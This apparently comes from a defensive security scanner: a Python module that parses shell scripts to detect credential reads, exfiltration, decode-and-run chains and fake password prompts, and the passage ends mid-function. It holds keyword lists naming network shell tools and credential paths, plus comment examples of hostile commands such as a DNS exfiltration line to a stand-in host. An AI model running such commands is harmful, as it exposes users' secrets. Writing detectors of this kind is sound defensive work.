"""Shell rules: data from credentials to the network, download or decode then run, persistence, reverse shells."""

from __future__ import annotations

import html
import json
import re
import shlex
from collections.abc import Mapping
from functools import lru_cache

from skillscope.audit.behavior.base import CUT, TEXT_CAP, Ctx, RawCap
from skillscope.audit.behavior.grants import judge_login_grant, judge_sudoers
from skillscope.audit.behavior.harvest import judge_kept
from skillscope.audit.behavior.manifests import judge_go_replace, mixed_script_package, near_popular
from skillscope.audit.behavior.modes import judge_mode, mode_number
from skillscope.audit.behavior.recovery import recovery_harm
from skillscope.audit.behavior.shellparse import SHELLS, Cmd, Pipeline, parse_script, parse_shell
from skillscope.audit.behavior.shellvalues import shipped, vendor_host
from skillscope.audit.behavior.vocab import (
    DIALOG_PROMPT,
    DIGEST_HEX,
    DOTENV,
    DOWNLOADERS,
    INTERPRETERS,
    NET_TOOLS,
    PERSISTENCE_PATH,
    PROMPT_TARGET,
    PROMPTED,
    SECRET_NAME,
    SECRET_PROMPT,
    STORE_COMMAND,
    TOKEN_COMMAND,
    climbed_path,
    credential_folder,
    credential_glob,
    credential_what,
    disguised_job,
    dotenv_glob,
    endpoint_kind,
    header_leaves,
    home_path,
    is_local_host,
    is_store,
    item_for_site,
    loads_code,
    lookalike_site,
    one_edit_from,
    package_index,
    persistence_glob,
    private_owner,
    private_place,
    prompt_name,
    prompt_owner,
    related_host,
    site_of,
    url_host_of,
    vendor_of,
)
from skillscope.audit.findings import Severity
from skillscope.core.textsafe import safe_line

__all__ = [
    "scan_shell",
    "staged_secret",
    "judge_staged",
    "SHELL_WORDS",
    "installer_severity",
    "synced_folder",
    "analyse_script",
    "payload_harm",
    "pinned_download",
    "pinned_only",
    "project_place",
    "gitconfig_commands",
    "is_entry_file",
    "scan_entry",
    "docker_wipe",
]

SHELL_WORDS = (
    "curl",
    "wget",
    "base64",
    "nc",
    "ncat",
    "socat",
    "/dev/tcp",
    "crontab",
    "hooksPath",
    ".ssh",
    ".aws",
    "security",
    "env",
    "printenv",
    ">>",
    "LaunchAgents",
    "systemctl",
    "launchctl",
    "eval",
    "sh",
    "xxd",
    ".kube",
    ".docker",
    "Login Data",
    "keychain",
    "iwr",
    "irm",
    "iex",
    "Invoke-",
    "auth token",
    "dig ",
    "nslookup",
    ".claude",
    "autostart",
    "systemd",
    ".git/hooks",
    "cron",
    " -enc ",
    " -Enc ",
    "EncodedCommand",
    "python",
    "node",
    "perl",
    "tee",
    "git config",
    "source",
)
"""Words without which no shell rule can fire (a cheap guard before parsing)."""

_SEND_FLAGS = (
    "-d",
    "--data",
    "--data-binary",
    "--data-raw",
    "--data-urlencode",
    "--data-ascii",
    "-F",
    "--form",
    "--form-string",
    "-T",
    "--upload-file",
    "--post-data",
    "--post-file",
    "--body-data",
    "--body-file",
    "--json",
)
_STDIN_CODE = ("-c", "-e", "-m", "--eval", "-Command", "-command", "-r")
_READERS = frozenset(
    {
        "cat",
        "head",
        "tail",
        "less",
        "more",
        "base64",
        "xxd",
        "od",
        "strings",
        "gzip",
        "tar",
        "zip",
        "openssl",
        "gpg",
        "cp",
        "get-content",
        "gc",
        "type",
        "sed",
        "awk",
        "grep",
        "find",
        "ls",
        "sqlite3",
        "jq",
    }
)
_URL = re.compile(r"^(?:https?|ftp)://|^[\w-]+(?:\.[\w-]+)+(?::\d+)?/")
_VAR = re.compile(r"\$\{?([A-Za-z_]\w*)")


_PUBLISHERS: dict[tuple[str, str, str], tuple[str, str]] = {
    ("gh", "gist", "create"): ("https://gist.github.com", "a gist"),
    ("gh", "gist", "edit"): ("https://gist.github.com", "a gist"),
    ("gh", "issue", "create"): ("https://github.com", "an issue"),
    ("gh", "issue", "comment"): ("https://github.com", "an issue comment"),
    ("gh", "pr", "create"): ("https://github.com", "a pull request"),
    ("gh", "pr", "comment"): ("https://github.com", "a pull request comment"),
    ("gh", "release", "create"): ("https://github.com", "a release"),
    ("gh", "release", "upload"): ("https://github.com", "a release"),
    ("glab", "snippet", "create"): ("https://gitlab.com", "a snippet"),
    ("glab", "issue", "note"): ("https://gitlab.com", "an issue comment"),
}
"""Commands that post what they are given where other people read it: the provider's own host, but no use of a token."""


def _published(cmd: Cmd) -> tuple[str, str] | None:
    """Where and as what a command publishes what it is given (``gh gist create --public -``), or None."""
    words = [a for a in cmd.args if not a.startswith("-")][:2]
    found = _PUBLISHERS.get((cmd.name, *words)) if len(words) == 2 else None  # type: ignore[arg-type]
    if found is None:
        return None
    public = any(a in ("--public", "-p") for a in cmd.args) or words[0] != "gist"
    return found[0], ("a public " + found[1].split(" ", 1)[1]) if public and words[0] == "gist" else found[1]


def _url_of(cmd: Cmd) -> str | None:
    published = _published(cmd)
    if published is not None:
        return published[0]
    for word in cmd.args:
        if _URL.search(word):
            return word
    for _, target in cmd.redirects:
        if target.startswith(("/dev/tcp/", "/dev/udp/")):
            return target
    if _tls_client(cmd):
        return _option(cmd.words, "-connect")
    cloud = _cloud_copy(cmd)
    if cloud:
        return cloud
    if cmd.name in NET_TOOLS:
        args = cmd.args
        hosts = [
            w
            for i, w in enumerate(args)
            if not w.startswith("-") and not w.isdigit() and not (i and args[i - 1] in _VALUE_FLAGS)
        ]
        remote = [w for w in hosts if re.match(r"^[\w.-]+@|^[\w.-]+:", w)]
        return next(iter(remote or hosts), None)
    return None


_VALUE_FLAGS = frozenset({"-o", "-i", "-p", "-P", "-e", "-l", "-F", "-w", "-b", "-c", "-J", "-L", "-R", "-D"})
"""Options of ssh, scp, rsync and nc that take a value (ssh -o StrictHostKeyChecking=no, rsync -e "ssh")."""


def _is_downloader(cmd: Cmd) -> bool:
    # a downloader given no word at all (`curl | sh` named in a sentence as a pattern) fetches nothing
    return (cmd.name in DOWNLOADERS and bool(cmd.args or cmd.alts or cmd.redirects)) or (
        cmd.name in ("python", "python3") and any("urlopen" in a or "requests.get" in a for a in cmd.args)
    )


def _is_decoder(cmd: Cmd) -> bool:
    args = cmd.args
    if cmd.name == "base64" or cmd.name == "base32":
        return any(
            a in ("-d", "--decode", "-D") or (a.startswith("-") and not a.startswith("--") and "d" in a) for a in args
        )
    if cmd.name == "xxd":
        return any(a.startswith("-r") for a in args)
    if cmd.name in ("printf", "echo"):  # printf '\x63\x75\x72\x6c ...' | sh spells a command in escapes
        return any(len(re.findall(r"\\(?:x[0-9a-fA-F]{2}|[0-7]{3})", a)) >= 4 for a in args)
    if cmd.name == "openssl":
        return "-d" in args or "-base64" in args and "-d" in args
    return cmd.name in ("rev", "gunzip", "zcat", "uudecode", "bunzip2", "xz", "unxz") and not any(
        a == "-z" for a in args
    )


def _runs_stdin(cmd: Cmd) -> bool:
    """An interpreter reading its program from standard input (sh, bash -s, python3 -), not from -c or a file."""
    if cmd.name not in INTERPRETERS or cmd.name in ("source", "."):
        return False
    args = cmd.args
    if "-s" in args[:2] and not any(a in _STDIN_CODE for a in args):
        return True  # sh -s -- ./prefix: the program comes from stdin, the words after -s are its arguments
    return not any(
        a in _STDIN_CODE or (a.startswith("-") and a.endswith("c") and len(a) <= 3) for a in args
    ) and not any(not a.startswith("-") and "." in a and a != "-" for a in args)


class _Flow:
    """What the script has learnt so far: tainted variables and files written by a download or a decode."""

    def __init__(self) -> None:
        self.vars: dict[str, tuple[str, int]] = {}
        self.var_items: dict[str, str] = {}
        """The name of what a secret variable holds (a keychain item's service, a token tool), for the provider test."""
        self.files: dict[str, tuple[str, str, int]] = {}
        self.secret_files: dict[str, tuple[str, int]] = {}
        """Files the script wrote a secret into (``env > out``, ``cp ~/.netrc out``): reading one reads the secret."""
        self.committed: tuple[str, int] | None = None
        """A secret the script put into the repository (a commit message, an added file): a push sends it."""
        self.verified: dict[str, int] = {}
        """Downloaded files checked against a SHA digest written in the script, with the check's line: their content
        is pinned, so running one runs code a reviewer can fix in advance."""


_SUMMERS = ("sha256sum", "sha512sum", "shasum", "gsha256sum", "b2sum")
_GATED = re.compile(r"[ \t]*(?:&&|\|\|[ \t]*(?:exit|return|\{[^}]*\bexit\b|die\b|fail\b))")
_ERREXIT = re.compile(r"^[ \t]*set[ \t]+(?:-[a-zA-Z]*e[a-zA-Z]*\b|-o[ \t]+errexit\b)", re.MULTILINE)


_PINNED = "checked against a SHA digest written in the script"
_PINNED_RUN = re.compile(r"downloaded from (\S+) on line \d+ and " + _PINNED)


_REGISTRY_NAME = re.compile(r"(?:@[\w.-]+/)?[\w.-]+")


def _project_tool(cap: RawCap, inner: Ctx) -> bool:
    """A package named plainly from its default registry (``npx lint-staged``, ``uvx ruff``): in the repository's own
    hook it is the project's tooling. A URL, another index, an archive or a name one letter off a popular one is
    not (those draw a risky-install finding of their own)."""
    return (
        cap.kind == "installs"
        and _REGISTRY_NAME.fullmatch(cap.target) is not None
        and not any(h.check == "skillscope/permissions/risky-install" for h in inner.hits)
    )


def _pinned_fetch(cap: RawCap, urls: set[str]) -> bool:
    """The network use is the download of a file whose digest the script checks before it runs it."""
    return cap.detail.endswith("download") and any(_host_of(url) == cap.target for url in urls)


def pinned_download(line: str) -> bool:
    """Whether a shell line another language writes somewhere runs a download it first checks against a digest
    written on it, and does nothing else the start-up judgement counts as harm."""
    ctx = Ctx(line, 0, line, "payload.sh", skill_files={})
    _scan(ctx, 1)
    pinned = any(h.severity == "note" and _PINNED_RUN.search(h.message) for h in ctx.hits)
    return pinned and _payload_harm(ctx, line, 1) is None


def pinned_only(text: str, harmful: re.Pattern[str]) -> bool:
    """Whether every line of ``text`` that ``harmful`` finds (a fetch, an address) is a ``pinned_download``: a start-up
    write another language makes, read by this analyser instead of by its words."""
    lines = [line for line in text.split("\n") if harmful.search(line)]
    return bool(lines) and all(pinned_download(line) for line in lines)


def _checked_file(ctx: Ctx, pipeline: Pipeline) -> str | None:
    """The file a pipeline checks against a digest written out in the script, when a failed check stops what
    follows (``&&``, ``|| exit``, ``set -e``): ``echo "HEX  f" | sha256sum -c -``, ``sha256sum f | grep -q HEX``."""
    cmds = [c for stage in pipeline for c in stage]
    if not cmds:
        return None
    last = cmds[-1]
    gated = _GATED.match(ctx.text, last.end) is not None or _ERREXIT.search(ctx.text, 0, cmds[0].start) is not None
    if not gated:
        return None
    if last.name in _SUMMERS and ("-c" in last.args or "--check" in last.args):
        listed = re.search(DIGEST_HEX.pattern + r"[ \t]+\*?(\S+)", last.stdin or _stage_output(pipeline, last))
        return listed.group(1) if listed else None
    if last.name in ("grep", "egrep", "fgrep") and len(cmds) >= 2 and any(DIGEST_HEX.fullmatch(a) for a in last.args):
        summer = cmds[-2]
        files = [a for a in summer.args if not a.startswith("-") and a != "256" and a != "512"]
        return files[0] if summer.name in _SUMMERS and len(files) == 1 else None
    return None


def _source(ctx: Ctx, flow: _Flow, cmd: Cmd) -> tuple[str, int, str | None] | None:
    """(what is read, its line, the secret's variable name when it is one named variable) for a command that reads secrets."""
    joined = " ".join(cmd.words)
    line = ctx.line(cmd.start)
    dialog = _dialog_prompt(ctx, cmd)
    if dialog is not None:
        return dialog
    store = STORE_COMMAND.search(joined)
    if store:
        item = _item_name(cmd)
        return f"reads a credential store ({safe_line(store.group(0), limit=60)})", line, item and ITEM + item
    printed = TOKEN_COMMAND.search(joined) if cmd.name in _TOKEN_TOOLS else None
    if printed:  # named after its tool, so the token sent to that tool's own provider (gh to api.github.com) is its use
        return f"reads a credential ({safe_line(printed.group(0), limit=60)})", line, cmd.name
    if (
        cmd.name in _READERS
        or cmd.name in DOWNLOADERS
        or cmd.name in ("nc", "ncat", "netcat", "socat", "telnet", "scp", "rsync")
        or _cloud_copy(cmd)
    ) and not _quiet_match(cmd):
        for word in _read_words(cmd):
            if "$(" in word or "`" in word:
                continue  # what a substitution reads is read from its own commands, below
            path = word.rsplit("@", 1)[-1]
            what = (
                credential_what(word)
                or credential_glob(path.rsplit("=", 1)[-1])
                or credential_folder(path.rsplit("=", 1)[-1])
            )
            if what and not (cmd.name in ("ls", "find") and not is_store(what)):
                shown = path if credential_what(word) or home_path(path) == what else f"{path} ({what})"
                return f"reads {safe_line(shown, limit=80)}", line, None
            place = private_place(path.rsplit("=", 1)[-1]) if _content_word(cmd, word) else None
            if place is not None and "*" not in place:  # a file of the user's own on no list: named, read alone is none
                return f"reads {safe_line(place, limit=80)}", line, PRIVATE + private_owner(place)
            named = word.rsplit("@", 1)[-1].rsplit("=", 1)[-1]
            if (DOTENV.search(named) or dotenv_glob(named)) and cmd.name not in ("ls", "find", "cp"):
                return (
                    f"reads {safe_line(word.rsplit('@', 1)[-1], limit=80)}",
                    line,
                    ".env",
                )  # named: reading alone is no finding
        if cmd.name == "find" and (pattern := _dotenv_sought(cmd)) is not None:
            # find . -name '.env*': every .env file under the folder, for the loop or -exec that reads each
            return f"reads the .env files find matches ({safe_line(pattern, limit=60)})", line, ".env"
    for op, target in cmd.redirects:
        if op == "<":
            what = credential_what(target) or credential_glob(target)
            if what:
                return f"reads {safe_line(target, limit=80)}", line, None
    tainted = _tainted_file(flow, cmd)
    if tainted is not None:
        return tainted[0], tainted[1], None
    if cmd.name in ("env", "printenv", "set", "export", "declare") and not [
        a for a in cmd.args if not a.startswith("-")
    ]:
        return "reads the whole environment", line, None
    for sub in cmd.subs:
        found = _pipeline_source(ctx, flow, sub)
        if found:
            return found
    relayed = _callee_prints_secret(ctx, cmd)
    if relayed is not None:  # named, so capturing it alone is no finding here: the script's own read is one there
        return relayed, line, "\x00script"
    for word in cmd.words[1:] if cmd.words else []:
        for name in _VAR.findall(word):
            if name in flow.vars:
                what, at = flow.vars[name]
                return what, at, flow.var_items.get(name)
            if SECRET_NAME.search(name) and cmd.name not in ("export",):
                return f"reads ${name}", line, name
    return None


def _file_words(cmd: Cmd) -> list[str]:
    """The file names a command may read: its arguments with an upload's marks taken off (``@f``, ``f=@f``,
    ``FILE:f``, ``--post-file=f``) and its input redirects."""
    names: list[str] = []
    for word in [*cmd.args, *cmd.alts]:
        names.append(word)
        for mark in ("=@", "=<", "="):
            if mark in word:
                names.append(word.split(mark, 1)[1])
        if word.startswith(("@", "<")):
            names.append(word[1:])
        if ":" in word and word.split(":", 1)[0].upper() in ("FILE", "OPEN", "GOPEN"):
            names.append(word.split(":", 1)[1].split(",", 1)[0])
    names += [t for op, t in cmd.redirects if op == "<"]
    return names


def _tainted_file(flow: _Flow, cmd: Cmd) -> tuple[str, int] | None:
    """The secret a command reads back from a file the script wrote it into earlier, or None."""
    if not flow.secret_files or cmd.name in _NOT_READING:
        return None
    for word in _file_words(cmd):
        found = flow.secret_files.get(word.strip("\"'"))
        if found is not None:
            what, at = found
            return f"{what} into {safe_line(word, limit=60)}", at
    return None


_NOT_READING = frozenset({"rm", "unlink", "shred", "chmod", "chown", "touch", "mkdir", "test", "[", "[[", "stat"})
"""Commands that name a file without reading what is in it."""
_SYNCED = re.compile(
    r"^~/(?:Dropbox|OneDrive[^/]*|Google ?Drive|My Drive|Box|Box Sync|pCloud ?Drive|Nextcloud|ownCloud|MEGA|Sync)(?:/|$)"
    r"|^~/Library/(?:Mobile Documents|CloudStorage)/",
    re.IGNORECASE,
)
"""A folder a sync client copies to its cloud (Dropbox, iCloud Drive, OneDrive, Google Drive, Box, ...)."""


def synced_folder(path: str) -> str | None:
    """The sync service a (home-normalised) path belongs to, or None: a file put there leaves the machine."""
    found = _SYNCED.match(home_path(path))
    return found.group(0).rstrip("/").removeprefix("~/") if found else None


def _secret_written(cmd: Cmd, source: tuple[str, int, str | None] | None) -> list[str]:
    """Where a command that reads a secret puts it: its output file (``> f``, ``-o f``, ``tee f``) or the
    destination of a local copy (``cp SECRET DEST``)."""
    if source is None or source[2] == ".env":
        return []
    out: list[str] = []
    written = _written(cmd)
    if written and not written.startswith("/dev/"):
        out.append(written)
    if cmd.name in ("cp", "install", "ln", "mv", "tee", "dd"):
        plain = [a for a in cmd.args if not a.startswith("-")]
        if cmd.name == "dd":
            plain = [a.split("=", 1)[1] for a in cmd.args if a.startswith("of=")]
        elif cmd.name != "tee":
            plain = plain[-1:] if len(plain) >= 2 else []
        out += [p for p in plain if p and not _URL.search(p)]
    if cmd.name in ("tar", "gtar", "bsdtar", "zip", "7z"):
        out += [a for a in [_archive_out(cmd)] if a and a != "-"]
    return out


def _archive_out(cmd: Cmd) -> str | None:
    """The archive an archiver writes: ``tar czf OUT``, ``tar -cf OUT``, ``--file=OUT``; ``zip OUT``, ``7z a OUT``."""
    args = cmd.args
    if cmd.name == "zip":
        return next((a for a in args if not a.startswith("-")), None)
    if cmd.name == "7z":
        plain = [a for a in args if not a.startswith("-")]
        return plain[1] if len(plain) > 1 else None
    for i, a in enumerate(args):
        if a.startswith("--file="):
            return a.split("=", 1)[1]
        bundled = a.lstrip("-")
        if (i == 0 or a.startswith("-")) and not a.startswith("--") and bundled.endswith("f") and i + 1 < len(args):
            return args[i + 1]
    return None


def _ssh_sends(cmd: Cmd, fed: bool) -> bool:
    """ssh to a host with data on its standard input (``printenv | ssh host 'cat >> log'``, ``ssh host < f``):
    what it is fed leaves the machine."""
    if cmd.name not in ("ssh", "sftp"):
        return False
    hosts = [a for a in cmd.args if not a.startswith("-") and ("@" in a or "." in a)]
    return bool(hosts) and (fed or any(op == "<" for op, _ in cmd.redirects))


def _git_verb(cmd: Cmd) -> str:
    """The subcommand of a git command (``git -C dir commit`` -> commit), or ''."""
    if cmd.name != "git":
        return ""
    args = cmd.args
    i = 0
    while i < len(args) and args[i].startswith("-"):
        i += 2 if args[i] in ("-C", "-c", "--git-dir", "--work-tree") else 1
    return args[i] if i < len(args) else ""


_LOGIN_KEY = re.compile(r"(?i)^-?o?\s*IdentityFile[ =]")


def _without_login_key(cmd: Cmd) -> list[str]:
    """The arguments of an ssh, scp, sftp or rsync command without the key it logs in with (``-i KEY``,
    ``-o IdentityFile=KEY``, rsync's ``-e "ssh -i KEY"``): that key proves who the user is to the server and is
    never sent; a key named as a file to copy stays an operand."""
    if cmd.name not in ("ssh", "scp", "sftp", "rsync"):
        return list(cmd.args)
    kept: list[str] = []
    skip = False
    for index, arg in enumerate(cmd.args):
        if skip:
            skip = False
            continue
        value = cmd.args[index + 1] if index + 1 < len(cmd.args) else ""
        if cmd.name == "rsync":  # rsync's own -i itemizes changes; its login options are in -e
            if arg in ("-e", "--rsh") and re.match(r"\s*ssh\b", value):
                skip = True  # the remote shell rsync starts, with its own login options
                continue
            if not re.match(r"--rsh=\s*ssh\b", arg):
                kept.append(arg)
            continue
        if arg == "-i" or (arg == "-o" and _LOGIN_KEY.match(value)):
            skip = True
            continue
        if (arg.startswith("-i") and len(arg) > 2) or _LOGIN_KEY.match(arg):
            continue  # -i~/.ssh/key, -oIdentityFile=~/.ssh/key
        kept.append(arg)
    return kept


def _dotenv_sought(cmd: Cmd) -> str | None:
    """The pattern of a ``find`` test (``-name``, ``-iname``, ``-path``) that matches .env files."""
    for test, pattern in zip(cmd.args, cmd.args[1:], strict=False):
        if test in ("-name", "-iname", "-path", "-ipath", "-wholename") and (
            DOTENV.search(pattern) or dotenv_glob(pattern)
        ):
            return pattern
    return None


def _quiet_match(cmd: Cmd) -> bool:
    """``grep -q`` (``-Eq``, ``--quiet``): whether a file holds a line, told by the exit status; nothing of it is read
    out (``grep -q "machine $host" ~/.netrc`` checks for an entry)."""
    return cmd.name in ("grep", "egrep", "fgrep", "rg") and any(
        a in ("--quiet", "--silent") or (a.startswith("-") and not a.startswith("--") and "q" in a) for a in cmd.args
    )


_EXCLUDING = ("--exclude", "--ignore", "--filter=-", "--exclude-from", "--netrc-file=")


def _read_words(cmd: Cmd) -> list[str]:
    """The words that may name what a command reads: its arguments and their other values, and for an archiver
    given a folder to work in (``tar -C "$HOME" .aws``) each relative name joined to that folder."""
    words = [*_without_login_key(cmd), *cmd.alts]
    # what an archiver or a copy is told to leave out (--exclude=*/c.kdbx, -x '*.pem') is what it does not read, and
    # curl's --netrc-file is where it finds the login for the host it is given: used as meant, not read out
    words = [
        w
        for i, w in enumerate(words)
        if not w.startswith(_EXCLUDING)
        and not (i and words[i - 1] in ("--exclude", "--ignore", "-x", "--filter", "--netrc-file"))
    ]
    if cmd.name in ("tar", "zip", "7z", "rsync", "bsdtar", "gtar"):
        folder = next(
            (
                cmd.args[i + 1] if a in ("-C", "--directory") else a.split("=", 1)[1]
                for i, a in enumerate(cmd.args[:-1] if cmd.args else [])
                if a in ("-C", "--directory") or a.startswith("--directory=")
            ),
            None,
        )
        if folder:
            words += [f"{folder.rstrip('/')}/{w}" for w in cmd.args if not w.startswith(("-", "/", "~", "$"))]
    return words


def _carried(ctx: Ctx, flow: _Flow, cmd: Cmd, source: tuple[str, int, str | None]) -> bool:
    """Whether a command only hands on a secret a variable got earlier (``bash fetch.sh "$token"``): the read is
    the assignment's, on its own line."""
    return source[1] != ctx.line(cmd.start) and (source[0], source[1]) in flow.vars.values()


_ONE_ITEM = re.compile(
    r"\bsecurity\s+find-(?:generic|internet)-password\b[^|;&]*\s-[sal]\s|\bsecret-tool\s+lookup\b|\bkeyring\s+get\b"
)


_ONE_LOOKUP = re.compile(r"\bsecurity\s+find-(?:generic|internet)-password\b")


def _names_only(cmd: Cmd) -> bool:
    """``security dump-keychain`` without ``-d``: the items' names and attributes, no secret decrypted."""
    args = cmd.args
    return (
        cmd.name == "security"
        and args[:1] == ["dump-keychain"]
        and not any(re.fullmatch(r"-[a-z]*d[a-z]*", a) for a in args[1:])
    )


def _one_item(cmd: Cmd) -> bool:
    """A look-up of one named item of the keychain (a tool reading its own saved token), not a dump of the store."""
    return bool(_ONE_ITEM.search(" ".join(cmd.words) + " "))


PRIVATE = "\x00private:"
"""Marks a source's name as the tool a private file of the user's home belongs to (``~/.config/op/config``: op)."""

ITEM = "\x00item:"
"""Marks a source's name as a keychain item's service name rather than a variable's."""


def _item_name(cmd: Cmd) -> str | None:
    """The service or label of the one keychain item a look-up names (``security find-generic-password -s
    linear-skill``, ``secret-tool lookup service linear``, ``keyring get linear user``), so the item sent to the
    site it is named for (api.linear.app) reads as its own use; None for a dump of the store or an unnamed read."""
    if not _one_item(cmd):
        return None
    args = cmd.args
    if cmd.name == "security":
        for i, arg in enumerate(args[:-1]):
            if arg in ("-s", "-l") or (arg.startswith("-") and not arg.startswith("--") and arg[-1] in "sl"):
                return args[i + 1] or None
        return None
    values = [a for a in args[1:] if not a.startswith("-")]
    if cmd.name == "secret-tool":
        return " ".join(values[1::2]) or None  # the attribute values (service linear user me)
    return values[0] if values else None


def _after_answer(pipeline: Pipeline) -> Pipeline:
    """The stages of a captured pipeline after its last download: before it, what the request carried went to the
    host (judged at the request); from it on, the output is what the host answered."""
    last = max((i for i, stage in enumerate(pipeline) if any(_is_downloader(c) for c in stage)), default=-1)
    return pipeline[last + 1 :]


def _pipeline_source(ctx: Ctx, flow: _Flow, pipeline: Pipeline) -> tuple[str, int, str | None] | None:
    for stage in pipeline:
        for cmd in stage:
            found = _source(ctx, flow, cmd)
            if found:
                return found
    return None


_TOKEN_TOOLS = frozenset(
    {
        "gh",
        "glab",
        "aws",
        "gcloud",
        "az",
        "kubectl",
        "git",
        "op",
        "vault",
        "pass",
        "bw",
        "lpass",
        "gopass",
        "keepassxc-cli",
        "npm",
        "pbpaste",
        "wl-paste",
        "xclip",
        "xsel",
        "history",
        "fc",
    }
) | {
    f"docker-credential-{k}" for k in ("desktop", "osxkeychain", "pass", "secretservice", "wincred", "ecr-login", "gcr")
}
_RESOLVERS = frozenset({"dig", "nslookup", "host", "drill", "ping"})


_CLOUD_FLAGS = frozenset(
    {
        "--recursive",
        "-r",
        "-R",
        "--delete",
        "--quiet",
        "-q",
        "--dryrun",
        "--dry-run",
        "-n",
        "--no-progress",
        "--only-show-errors",
        "--follow-symlinks",
        "--no-follow-symlinks",
        "--exact-timestamps",
        "--size-only",
        "-m",
        "--no-clobber",
        "--continue-on-error",
        "-P",
        "--progress",
        "-v",
        "--verbose",
        "--checksum",
        "-c",
        "-u",
        "--update",
    }
)
"""Options of aws s3, gsutil, gcloud storage and rclone that take no value (every other option does)."""


def _cloud_copy(cmd: Cmd) -> str | None:
    """The remote destination of a cloud storage upload (``aws s3 cp SRC s3://b/``, ``gsutil cp``, ``gcloud storage
    cp``, ``rclone copy SRC remote:path``), or None for a download, a listing or another command."""
    args = cmd.args
    remote: tuple[str, ...]
    if cmd.name == "gsutil":
        args = args[next((i for i, a in enumerate(args) if not a.startswith("-")), len(args)) :]  # gsutil -m cp
    if cmd.name == "aws" and args[:1] == ["s3"] and args[1:2] in (["cp"], ["sync"], ["mv"]):
        rest, remote = args[2:], ("s3://",)
    elif cmd.name == "gsutil" and args[:1] in (["cp"], ["rsync"], ["mv"]):
        rest, remote = args[1:], ("gs://",)
    elif cmd.name == "gcloud" and args[:1] == ["storage"] and args[1:2] in (["cp"], ["rsync"], ["mv"]):
        rest, remote = args[2:], ("gs://",)
    elif cmd.name == "rclone" and args[:1] in (["copy"], ["sync"], ["move"], ["copyto"], ["moveto"]):
        rest, remote = args[1:], ()
    else:
        return None
    places: list[str] = []
    skip = False
    for word in rest:
        if skip:
            skip = False
        elif word.startswith("-"):
            skip = "=" not in word and word not in _CLOUD_FLAGS
        else:
            places.append(word)
    if len(places) < 2:
        return None

    def far(word: str) -> bool:
        if remote:
            return word.startswith(remote)
        return bool(re.match(r"^[\w.-]+:(?!//)", word)) and not word.startswith(("/", "~", "$", "."))

    dest, sources = places[-1], places[:-1]
    return dest if far(dest) and not all(far(w) for w in sources) else None


_SYSTEM_PROMPT = re.compile(
    r"\[sudo\]|\bpassword\s+for\b|\bpassphrase\s+for\b|\b(?:sudo|su|ssh|login|keychain|administrator|root)\b[^\n]{0,30}"
    r"\bpassword\b",
    re.IGNORECASE,
)
"""A prompt text that imitates a system tool asking for the user's password (``[sudo] password for alice:``)."""


def _impersonated_prompt(ctx: Ctx, cmd: Cmd) -> tuple[str, int, str | None] | None:
    """A ``read`` of a hidden answer (``read -s``, or after ``stty -echo``) in a script that shows a system tool's
    password prompt or is named like one (a ``sudo`` shim): what is typed is the user's password."""
    hidden = any(a.startswith("-") and "s" in a[1:] and not a.startswith("--") for a in cmd.args) or re.search(
        r"\bstty\s+-echo\b", ctx.text
    )
    named = ctx.path.rsplit("/", 1)[-1] in ("sudo", "su", "doas", "ssh", "passwd", "login", "pkexec")
    if not hidden or not (named or _SYSTEM_PROMPT.search(ctx.text)):
        return None
    return "reads the user's password at a prompt that imitates a system tool", ctx.line(cmd.start), None


_PROMPT_BEFORE = re.compile(r"^\s*(?:printf|echo)(?:\s+-\w+)*\s+(?P<said>.+)$")


def _hidden_prompt(ctx: Ctx, cmd: Cmd) -> tuple[str, int, str | None] | None:
    """A ``read`` that hides what is typed (``read -s``, or after ``stty -echo``): a password or token the user hands
    over, named by its prompt (``-p``, else the ``printf``/``echo`` on the line before) for the provider check."""
    hidden = any(a.startswith("-") and "s" in a[1:] and not a.startswith("--") for a in cmd.args) or re.search(
        r"\bstty\s+-echo\b", ctx.text
    )
    if cmd.name != "read":
        return None
    line = ctx.line(cmd.start)
    prompt = next((cmd.args[i + 1] for i, a in enumerate(cmd.args[:-1]) if a.startswith("-") and a.endswith("p")), None)
    if prompt is None:
        lines = ctx.text.split("\n")
        before = _PROMPT_BEFORE.match(lines[line - 2]) if 1 < line <= len(lines) else None
        prompt = before.group("said").strip("'\"") if before else None
    if not hidden and not (prompt and SECRET_PROMPT.search(prompt)):
        return None  # a plain answer to a question that names no secret
    ctx.cap("reads", PROMPT_TARGET, cmd.start, cmd.end, "read -s" if hidden else "read, asking for a secret")
    shown = f" ({safe_line(prompt.strip(), limit=40)})" if prompt and prompt.strip() else ""
    return f"{PROMPTED}{shown}", line, PROMPT_NAME + prompt_name(prompt)


PROMPT_NAME = "\x00prompt:"
"""Marks a source's name as what a password prompt asked for (``GITHUB_TOKEN`` from "GitHub token:")."""


def _dialog_prompt(ctx: Ctx, cmd: Cmd) -> tuple[str, int, str | None] | None:
    """A command that shows a password dialog and prints what is typed (``osascript -e 'display dialog ... with hidden
    answer'``, ``zenity --password``): captured, it is a password the user handed over."""
    if cmd.name not in ("osascript", "zenity", "kdialog", "systemd-ask-password", "ssh-askpass"):
        return None
    joined = " ".join(cmd.words)
    if cmd.name in ("osascript", "zenity", "kdialog") and not DIALOG_PROMPT.search(joined):
        return None
    said = re.search(r"dialog\s+\\?[\"']([^\"'\\]{1,80})", joined)
    prompt = said.group(1) if said else None
    ctx.cap("reads", PROMPT_TARGET, cmd.start, cmd.end, cmd.name)
    shown = f" ({safe_line(prompt.strip(), limit=40)})" if prompt and prompt.strip() else ""
    return f"{PROMPTED}{shown}", ctx.line(cmd.start), PROMPT_NAME + prompt_name(prompt)


def _tls_client(cmd: Cmd) -> bool:
    """``openssl s_client -connect HOST:PORT``: a raw TLS client that sends whatever reaches its standard input."""
    return cmd.name == "openssl" and "s_client" in cmd.args


_HTTPIE = frozenset({"http", "https", "xh", "xhs"})
_HTTPIE_ITEM = re.compile(r"(?!-)[\w.-]+(?:==|:=@|:=|=@|=|@)\S")
"""An HTTPie (or xh) request item that puts data into the request: a field, a JSON value, a file's content."""


def _sends(cmd: Cmd, ctx: Ctx | None = None) -> bool:
    if cmd.name in _RESOLVERS and any("$" in a or "`" in a for a in cmd.args) or (cmd.name in _RESOLVERS and cmd.subs):
        return (
            True  # a name looked up with data spliced into it (dig "$(cat key | base64).x.example") leaks through DNS
        )
    if cmd.name in NET_TOOLS and cmd.name not in ("ssh", "rsync", "scp", "sftp") or _tls_client(cmd):
        return True
    if _published(cmd) is not None:
        return True  # a gist, an issue or a release: what it is given is posted for others to read
    if _cloud_copy(cmd):
        return True  # a copy to a bucket or a remote sends what it copies
    if cmd.name in ("scp", "rsync") and any(re.match(r"^[\w.@${}-]+:", a) for a in cmd.args[1:]):
        return True  # a copy to host:path
